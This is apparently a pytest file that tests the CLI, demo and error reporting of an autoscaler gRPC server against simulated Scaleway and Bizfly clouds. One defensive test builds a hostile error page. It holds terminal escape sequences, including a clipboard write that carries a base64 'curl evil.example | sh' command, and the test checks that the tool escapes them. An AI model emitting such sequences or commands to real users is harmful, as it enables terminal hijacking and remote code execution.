"""What a newcomer meets first, run as they would run it: the CLI and the demo as child processes.

A busy port is one line naming the port and what changes it; ``--version``; unreadable certificate
files are one line; ``serve --ready-file`` reports the ports a port-0 config was given; the demo's
banner commands work when pasted.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shlex
import signal
import socket
import subprocess
import sys
import threading
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc

from devstack.clouds import scaleway_backend
from devstack.harness import (
    ENGINE_ENV,
    REPO_ROOT,
    ChildProcess,
    ServerProcess,
    child_env,
    listening_addresses,
    serve_command,
    server_config,
    write_config,
)
from protos import externalgrpc_pb2 as pb
from simulators.common import Fault, ManualClock
from simulators.scaleway import ScalewaySimulator, demo_scenario

CLI_TIMEOUT = 60


@pytest.fixture
def simulator() -> Iterator[ScalewaySimulator]:
    with ScalewaySimulator(scenario=demo_scenario(), clock=ManualClock()) as sim:
        yield sim


@contextlib.contextmanager
def port_taken() -> Iterator[int]:
    """A loopback port another process (here: this one) listens on for the whole block."""
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        yield int(holder.getsockname()[1])


def run(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        list(argv), cwd=REPO_ROOT, env=child_env(), capture_output=True, text=True, timeout=CLI_TIMEOUT
    )


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return run(*serve_command(), *args)


def one_line(text: str) -> str:
    lines = text.strip().splitlines()
    assert len(lines) == 1, f"expected one line, got {len(lines)}:\n{text}"
    return lines[0]


# ---------------------------------------------------------------------------------------------- ready file
def test_ready_file_reports_the_ports_bound_for_port_zero(tmp_path: Path, simulator: ScalewaySimulator) -> None:
    server = ServerProcess(server_config([scaleway_backend(simulator)]), workdir=tmp_path)
    try:
        ready = json.loads(server.ready_path.read_text())
        assert ready["pid"] == server.pid
        grpc_port, http_port = (int(ready[key].rsplit(":", 1)[1]) for key in ("grpc", "http"))
        assert grpc_port != 0 and http_port != 0 and grpc_port != http_port
        # The kernel agrees: those are the ports the process listens on.
        assert {grpc_port, http_port} <= {port for _, port in listening_addresses(server.pid)}
        health = health_pb2_grpc.HealthStub(server.channel).Check(health_pb2.HealthCheckRequest(), timeout=5)
        assert health.status == health_pb2.HealthCheckResponse.SERVING
        assert server.http_get("/healthz") == (200, "ok\n")
    finally:
        assert server.stop() == 0


def test_restart_comes_back_on_new_ports_with_fresh_state(tmp_path: Path, simulator: ScalewaySimulator) -> None:
    server = ServerProcess(server_config([scaleway_backend(simulator)]), workdir=tmp_path)
    try:
        first_pid = server.pid
        server.restart()
        assert server.pid != first_pid and server.restarts == 1
        groups = server.stub.NodeGroups(pb.NodeGroupsRequest(), timeout=5).nodeGroups
        assert len(groups) == len([p for p in simulator.state.snapshot()["pools"] if p["autoscaling"]])
    finally:
        server.stop()


# ---------------------------------------------------------------------------------------------- busy ports
@pytest.mark.parametrize("setting", ["listen", "http_listen"])
def test_serve_on_a_busy_port_says_which_port_and_which_key_in_one_line(
    tmp_path: Path, simulator: ScalewaySimulator, setting: str
) -> None:
    with port_taken() as port:
        config = server_config([scaleway_backend(simulator)], **{setting: f"127.0.0.1:{port}"})
        path = write_config(tmp_path / "config.yaml", config)
        done = cli("serve", "--config", str(path))
    assert done.returncode != 0
    line = one_line(done.stderr)
    assert f"127.0.0.1:{port}" in line and "already in use" in line
    assert f"`{setting}` in {path}" in line


@pytest.mark.parametrize(
    ("flag", "make_variable", "purpose"),
    [("--listen", "LISTEN=", "gRPC"), ("--http-listen", "HTTP_LISTEN=", "HTTP")],
)
def test_demo_on_a_busy_port_names_the_flag_and_the_make_variable(flag: str, make_variable: str, purpose: str) -> None:
    other = "--http-listen" if flag == "--listen" else "--listen"
    with port_taken() as port:
        done = run(sys.executable, "-m", "devstack", flag, f"127.0.0.1:{port}", other, "127.0.0.1:0")
    assert done.returncode != 0
    line = one_line(done.stderr)
    assert f"127.0.0.1:{port}" in line and purpose in line
    assert f"{flag} HOST:PORT" in line and f"make run {make_variable}HOST:PORT" in line


# ---------------------------------------------------------------------------------------------- CLI basics
def test_version_prints_the_distribution_version_then_the_commit_engine_and_libraries() -> None:
    project = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text())["project"]
    done = cli("--version")
    assert done.returncode == 0
    lines = done.stdout.strip().splitlines()
    assert lines[0] == f"ca-externalgrpc {project['version']}"
    assert [line.split(":")[0] for line in lines[1:]] == ["commit", "engine", "libraries"]


@pytest.mark.parametrize("path", ["/no/such/ca.crt", "."])  # missing, and a directory
def test_status_with_an_unreadable_cacert_is_one_line(path: str) -> None:
    done = cli("status", "--address", "127.0.0.1:1", "--cacert", path)
    assert done.returncode == 2
    assert one_line(done.stderr).startswith(f"error: cannot read --cacert {path}: ")
    assert done.stdout == ""


# ---------------------------------------------------------------------------------------------- demo banner
def test_demo_banner_commands_work_when_pasted_from_the_repository_root() -> None:
    demo = ChildProcess(
        [sys.executable, "-m", "devstack", "--listen", "127.0.0.1:0", "--http-listen", "127.0.0.1:0"],
        env=child_env(),
    )
    try:
        demo.wait_listening()
        banner = _banner(demo)
        commands = [
            line.strip() for line in banner.splitlines() if re.match(r"\s+(\.venv/bin/|\S*grpcurl |curl )", line)
        ]
        assert any(c.startswith(".venv/bin/ca-externalgrpc status") for c in commands), banner
        for command in commands:
            done = subprocess.run(
                shlex.split(command), cwd=REPO_ROOT, capture_output=True, text=True, timeout=CLI_TIMEOUT
            )
            assert done.returncode == 0, f"{command}\n{done.stdout}{done.stderr}"
            assert done.stdout.strip(), command
            if " validate --online " in command:  # the demo's three backends, the public mode's among them
                online = [line for line in done.stdout.splitlines() if ": online: " in line]
                assert online == [
                    f"{name}: online: OK"
                    for name in ("scaleway-demo (scaleway)", "bizfly-demo (bizfly)", "scaleway-public-demo (scaleway)")
                ], done.stdout
        assert any(" validate --online --config " in c for c in commands), banner
    finally:
        assert demo.stop() == 0


def _banner(demo: ChildProcess, timeout: float = 30.0) -> str:
    deadline = time.monotonic() + timeout
    while "Stop with Ctrl-C." not in demo.output:
        if time.monotonic() > deadline:
            raise AssertionError(f"the demo printed no banner:\n{demo.output}")
        time.sleep(0.02)
    return demo.output


# ---------------------------------------------------------------------------------------------- issue 32
# A backend the cloud refuses from the start: where the CA and the operator look, each names the cause.
REFUSED_CASES = {
    # what is wrong -> (the scaleway mapping's change, the env, the reason, what the check must name)
    "secret key": (
        {"secret_key_env": "SCW_SECRET_KEY"},
        {"SCW_SECRET_KEY": "00000000-0000-0000-0000-000000000000"},
        "credentials",
        # the upstream variable wins over the file (as upstream), so it is the place to look
        "the key in environment variable SCW_SECRET_KEY; it must be the secret key (a UUID) of an IAM API key",
    ),
    "cluster id": (
        {"cluster_id": "11111111-2222-3333-4444-555555555555"},
        {},
        "not_found",
        "backends[0].scaleway.cluster_id = '11111111-2222-3333-4444-555555555555' and backends[0].scaleway.region",
    ),
    "region": ({"region": "nl-ams"}, {}, "not_found", "backends[0].scaleway.region = 'nl-ams'"),
}


def refused_backend(simulator: ScalewaySimulator, case: str, name: str = "scw") -> dict[str, Any]:
    backend = scaleway_backend(simulator, name)
    change = REFUSED_CASES[case][0]
    if "secret_key_env" in change:
        backend["scaleway"].pop("secret_key")
    backend["scaleway"].update(change)
    return backend


@pytest.mark.parametrize("case", list(REFUSED_CASES))
def test_a_refused_backend_is_named_by_refresh_status_readyz_log_and_metric(
    tmp_path: Path, simulator: ScalewaySimulator, case: str
) -> None:
    _, env, reason, check = REFUSED_CASES[case]
    server = ServerProcess(server_config([refused_backend(simulator, case)]), env=env, workdir=tmp_path)
    try:
        # The CA's Refresh fails, so its own log (`Failed to refresh cloud provider config: ...`) names the cause.
        with pytest.raises(grpc.RpcError) as refused:
            server.stub.Refresh(pb.RefreshRequest(), timeout=5)
        assert refused.value.code() == grpc.StatusCode.UNAVAILABLE
        details = refused.value.details() or ""
        assert details.startswith("no backend can serve node groups: backend 'scw' has never synced: ")
        assert check in details
        # NodeGroups never fails (an error would empty the CA's whole list, logged at --v=1 only).
        assert list(server.stub.NodeGroups(pb.NodeGroupsRequest(), timeout=5).nodeGroups) == []
        status = cli("status", "--address", server.address)
        assert status.returncode == 3, status.stdout + status.stderr
        assert "backend scw (scaleway): UNHEALTHY, not synced, 0 group(s), snapshot age -" in status.stdout
        assert f"  check: {check}" in status.stdout or check in status.stdout
        assert "  last error: scaleway API GET " in status.stdout
        assert status.stderr.strip() == "error: unhealthy backend(s): scw"
        code, body = server.http_get("/readyz")
        assert code == 200 and body.startswith("ready; scw: not synced yet: the cloud ") and check not in body
        _, metrics = server.http_get("/metrics")
        assert f'ca_externalgrpc_backend_sync_failure{{backend="scw",reason="{reason}"}} 1.0' in metrics
        lines = [json.loads(line) for line in server.output.splitlines() if line.startswith("{")]
        failed = [line for line in lines if line["msg"].startswith("cloud sync failed")]
        assert failed and failed[0]["check"] and check in failed[0]["check"] and failed[0]["reason"] == reason
        # There is no snapshot: no line may claim one is served.
        assert not any("serving the last good snapshot" in line["msg"] for line in lines)
        assert "no snapshot yet: this backend serves no node groups" in failed[0]["msg"]
        assert any(line["msg"].startswith("initial sync failed: ") and check in line["msg"] for line in lines)
    finally:
        server.stop()


def test_one_refused_backend_of_two_leaves_refresh_ok_and_the_other_serving(
    tmp_path: Path, simulator: ScalewaySimulator
) -> None:
    backends = [scaleway_backend(simulator, "good"), refused_backend(simulator, "secret key", "bad")]
    env = REFUSED_CASES["secret key"][1]
    # Two Scaleway backends: the upstream variables apply to neither, the *_env names the variable.
    backends[1]["scaleway"]["secret_key_env"] = "SCW_BAD_KEY"
    server = ServerProcess(server_config(backends), env={"SCW_BAD_KEY": env["SCW_SECRET_KEY"]}, workdir=tmp_path)
    try:
        server.stub.Refresh(pb.RefreshRequest(), timeout=5)  # the isolation rule: the good cloud keeps autoscaling
        groups = server.stub.NodeGroups(pb.NodeGroupsRequest(), timeout=5).nodeGroups
        assert groups and all(g.debug.startswith("backend=good ") for g in groups)
        status = cli("status", "--address", server.address)
        assert status.returncode == 3
        assert f"backend good (scaleway): healthy, serving, {len(groups)} group(s)" in status.stdout
        assert "backend bad (scaleway): UNHEALTHY, not synced, 0 group(s)" in status.stdout
        assert "check: the key in backends[1].scaleway.secret_key_env (variable SCW_BAD_KEY)" in status.stdout
    finally:
        server.stop()


def test_credentials_that_stop_working_fail_refresh_at_the_next_sync_when_no_backend_is_left(
    tmp_path: Path,
) -> None:
    with ScalewaySimulator(scenario=demo_scenario()) as sim:
        backend = scaleway_backend(sim, sync={"interval": "1s", "min_interval": "0s", "follow_refresh": False})
        server = ServerProcess(server_config([backend]), workdir=tmp_path)
        try:
            server.stub.Refresh(pb.RefreshRequest(), timeout=5)
            sim.api.secret_key = "revoked"  # the key is deleted in the console
            deadline = time.monotonic() + 20
            while True:
                try:
                    server.stub.Refresh(pb.RefreshRequest(), timeout=5)
                except grpc.RpcError as err:
                    details = err.details() or ""
                    break
                assert time.monotonic() < deadline, "Refresh never reported the refused credentials"
                time.sleep(0.2)
            assert "backend 'scw' last synced" in details and "the cloud refused the credentials" in details
            assert "check the key in backends[0].scaleway.secret_key" in details
            assert sim.secret_key not in details
        finally:
            server.stop()


@pytest.mark.parametrize(
    ("change", "what", "check"),
    [
        (
            {"password": "wrong-password"},
            "the cloud refused the credentials",
            "check the Bizfly login, backends[0].bizfly.email = ",
        ),
        (
            {"cluster_name": "ke0000000000000x"},
            "the cloud does not know the cluster",
            "check backends[0].bizfly.cluster_name = 'ke0000000000000x' (the cluster UID",
        ),
    ],
    ids=["login", "cluster"],
)
def test_a_refused_bizfly_backend_names_the_setting(
    tmp_path: Path, change: dict[str, str], what: str, check: str
) -> None:
    from devstack.clouds import bizfly_backend
    from simulators.bizfly import BizflySimulator
    from simulators.bizfly import demo_scenario as bizfly_demo

    with BizflySimulator(scenario=bizfly_demo(), clock=ManualClock()) as sim:
        backend = bizfly_backend(sim)
        backend["bizfly"].update(change)
        server = ServerProcess(server_config([backend]), workdir=tmp_path)
        try:
            with pytest.raises(grpc.RpcError) as refused:
                server.stub.Refresh(pb.RefreshRequest(), timeout=5)
            details = refused.value.details() or ""
            assert what in details and check in details, details
            assert "wrong-password" not in details
        finally:
            server.stop()


@pytest.mark.parametrize("cloud", ["bizfly", "scaleway"])
def test_readyz_says_which_backend_is_refused_and_why_without_configuration_values(
    tmp_path: Path, simulator: ScalewaySimulator, cloud: str
) -> None:
    """Issue 40, item 6: the probe port is unauthenticated (shipped on [::]:8087), and a refused backend's
    line on /readyz used to carry the settings to check with their values: the Bizfly project_id, email and
    token_url, or the Scaleway cluster id, region and api_url. /readyz says which backend is not ready and
    why, in words; the settings and their values are for `status` (the Diagnostics call) and the log."""
    from devstack.clouds import bizfly_backend
    from simulators.bizfly import BizflySimulator
    from simulators.bizfly import demo_scenario as bizfly_demo

    with contextlib.ExitStack() as stack:
        if cloud == "bizfly":
            sim: Any = stack.enter_context(BizflySimulator(scenario=bizfly_demo(), clock=ManualClock()))
            backend = bizfly_backend(sim, password="wrong-password")
            backend["bizfly"]["project_id"] = sim.project_id
            why = "the cloud refused the credentials"
        else:
            sim = simulator
            backend = refused_backend(simulator, "cluster id")
            why = "the cloud does not know the cluster"
        values = [str(v) for k, v in backend[cloud].items() if k not in ("auth_method", "password")]
        server = ServerProcess(server_config([backend]), workdir=tmp_path)
        stack.callback(server.stop)
        with pytest.raises(grpc.RpcError):
            server.stub.Refresh(pb.RefreshRequest(), timeout=5)
        code, body = server.http_get("/readyz")
        assert code == 200 and body.startswith(f"ready; {backend['name']}: not synced yet: {why}"), body
        shown = [v for v in values if v in body]
        assert not shown, f"/readyz shows configuration values {shown}: {body}"
        status = cli("status", "--address", server.address)
        assert "  check: " in status.stdout and any(v in status.stdout for v in values), status.stdout


# A page a proxy or a hostile endpoint could answer: a screen clear, an OSC 8 link, an OSC 52 clipboard write,
# a bell and a right-to-left override, which a terminal would obey if printed as they come.
HOSTILE_PAGE = (
    b"<html>\x1b[2J\x1b[H\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07"
    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x07\xe2\x80\xae</html>"
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


def test_cloud_error_text_is_printed_with_control_characters_escaped(
    tmp_path: Path, simulator: ScalewaySimulator
) -> None:
    """Issue 40, item 7: `status` (and the Refresh answer the CA logs) printed the cloud's or a proxy's
    error body as it came, so its terminal control sequences (screen clear, OSC 8 links, OSC 52 clipboard
    writes) reached the operator's terminal. What is not printable is shown escaped."""
    simulator.faults.add(Fault(route="*", status=502, body=HOSTILE_PAGE))
    server = ServerProcess(server_config([scaleway_backend(simulator)]), workdir=tmp_path)
    try:
        with pytest.raises(grpc.RpcError) as refused:
            server.stub.Refresh(pb.RefreshRequest(), timeout=10)
        details = refused.value.details() or ""
        status = cli("status", "--address", server.address)
        _, readyz = server.http_get("/readyz")
        for where, text in (("Refresh", details), ("status", status.stdout + status.stderr), ("/readyz", readyz)):
            assert not CONTROL.findall(text), f"{where} prints control characters: {text!r}"
        assert "\\x1b]52;c;" in status.stdout and "\\u202e" in status.stdout, status.stdout  # shown, escaped
    finally:
        server.stop()


# ---------------------------------------------------------------------------------------------- make run, no Rust
GRPCIO_NOTICE = "serving on the grpcio engine (serving.engine: auto): the native serving engine is not installed"


def venv_without_the_native_engine(where: Path) -> Path:
    """A virtualenv holding everything `make install` put in .venv except the native engine, as a user
    without Rust has it after the Makefile's pip step: every entry of .venv's site-packages but
    ca_externalgrpc_native is linked into a fresh venv."""
    venv = where / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=60)
    source = Path(next((REPO_ROOT / ".venv" / "lib").glob("python3*"))) / "site-packages"
    target = next((venv / "lib").glob("python3*")) / "site-packages"
    for entry in source.iterdir():
        if not entry.name.startswith("ca_externalgrpc_native"):
            (target / entry.name).symlink_to(entry)
    # The Makefile's stamps, oldest first: the locked dependencies are in, then the project's own step is done.
    (venv / ".locked-deps").touch()
    (venv / ".installed").touch()
    return venv


def test_make_run_without_rust_serves_on_grpcio_with_the_pip_paths_notice(tmp_path: Path) -> None:
    venv = venv_without_the_native_engine(tmp_path)
    # No cargo anywhere on PATH: only the folders of python, make and the base system.
    path = ":".join(dict.fromkeys([str(venv / "bin"), "/usr/local/bin", "/usr/bin", "/bin"]))
    assert subprocess.run(["sh", "-c", "command -v cargo"], env={"PATH": path}).returncode != 0
    # make and the demo it starts in a session of their own, stopped as Ctrl-C stops a terminal's job.
    make = subprocess.Popen(
        ["make", "--no-print-directory", "run", f"VENV={venv}", "LISTEN=127.0.0.1:0", "HTTP_LISTEN=127.0.0.1:0"],
        cwd=REPO_ROOT,
        # serving.engine left at auto, as make run has it (make test sets the test engine for the others)
        env={k: v for k, v in child_env().items() if k != ENGINE_ENV} | {"PATH": path},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    lines: list[str] = []
    reader = threading.Thread(target=lambda: lines.extend(make.stdout or ()), daemon=True)
    reader.start()
    try:
        deadline = time.monotonic() + 60
        while not any("Stop with Ctrl-C." in line for line in lines):
            assert make.poll() is None, "make run exited:\n" + "".join(lines)
            assert time.monotonic() < deadline, "no banner within 60 s:\n" + "".join(lines)
            time.sleep(0.2)
        output = "".join(lines)
        assert "ca-externalgrpc demo: gRPC on 127.0.0.1:" in output
        notices = [line for line in output.splitlines() if GRPCIO_NOTICE in line]
        assert len(notices) == 1, output
        assert "install the server with its native extra" in notices[0]
        assert "Rust" not in output.split(GRPCIO_NOTICE)[0]  # no failed cargo step before it
    finally:
        with contextlib.suppress(ProcessLookupError):  # make may have exited already (a failed run)
            os.killpg(make.pid, signal.SIGINT)
        make.wait(timeout=30)
        reader.join(timeout=5)


def test_the_demo_banner_points_at_the_grpcurl_make_build_made() -> None:
    from tests.support.gobuild import bin_dir

    built = bin_dir() / "grpcurl"
    if not built.is_file():
        pytest.fail(f"{built} is missing: run make build", pytrace=False)
    path = "/usr/bin:/bin"  # no grpcurl on it
    assert subprocess.run(["sh", "-c", "command -v grpcurl"], env={"PATH": path}).returncode != 0
    demo = ChildProcess(
        [sys.executable, "-m", "devstack", "--listen", "127.0.0.1:0", "--http-listen", "127.0.0.1:0"],
        env={**child_env(), "PATH": path},
    )
    try:
        banner = _banner(demo)
        assert f"  {built} -plaintext 127.0.0.1:" in banner, banner
        assert "not on PATH" not in banner
    finally:
        assert demo.stop() == 0
